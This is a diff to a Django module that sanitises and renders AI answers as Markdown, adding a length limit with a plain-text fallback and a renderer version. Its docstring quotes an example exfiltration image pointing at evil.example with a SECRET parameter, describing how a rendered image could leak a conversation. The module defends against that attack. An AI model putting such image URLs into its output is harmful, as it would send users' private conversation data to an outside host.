@@ -10,11 +10,17 @@ as ``![p](https://evil.example/?d=SECRET)`` would carry the conversation off
 the moment it is shown, so a Markdown image becomes a link to it instead (a
 link is fetched only when clicked). Table alignment becomes a class, since the
 Content-Security-Policy allows no style attributes.
+
+An answer is rendered once, when its run ends, and stored with
+``RENDERER_VERSION`` (bump it whenever the rendering or the sanitiser
+changes). Rendering is bounded: an answer longer than ``MARKDOWN_LIMIT``
+characters is shown as plain text.
 """
 
 from collections.abc import Sequence
 
 import nh3
+from django.utils.html import escape
 from django.utils.safestring import SafeString, mark_safe
 from markdown_it import MarkdownIt
 from markdown_it.common.utils import escapeHtml
@@ -22,6 +28,9 @@ from markdown_it.renderer import RendererHTML
 from markdown_it.token import Token
 from markdown_it.utils import EnvType, OptionsDict
 
+from workbench.limits import MARKDOWN_LIMIT
+
+RENDERER_VERSION = 2
 ALIGN_CLASSES = {"align-left", "align-center", "align-right"}  # see workbench.css
 
 
@@ -93,4 +102,16 @@ def render_markdown(text: str) -> SafeString:
         url_schemes={"http", "https", "mailto"},
         link_rel="noopener noreferrer nofollow",
     )
-    return mark_safe(clean)  # noqa: S308 - sanitised by nh3 just above
+    return mark_safe(clean)  # sanitised by nh3 just above
+
+
+def is_plain(text: str) -> bool:
+    """Too long to render as Markdown within a bounded time: shown as plain text."""
+    return len(text) > MARKDOWN_LIMIT
+
+
+def render_answer(text: str) -> SafeString:
+    """An answer's HTML: Markdown, or plain text (line breaks kept) when it is too long."""
+    if is_plain(text):
+        return mark_safe(f'<p class="plain">{escape(text)}</p>')
+    return render_markdown(text)
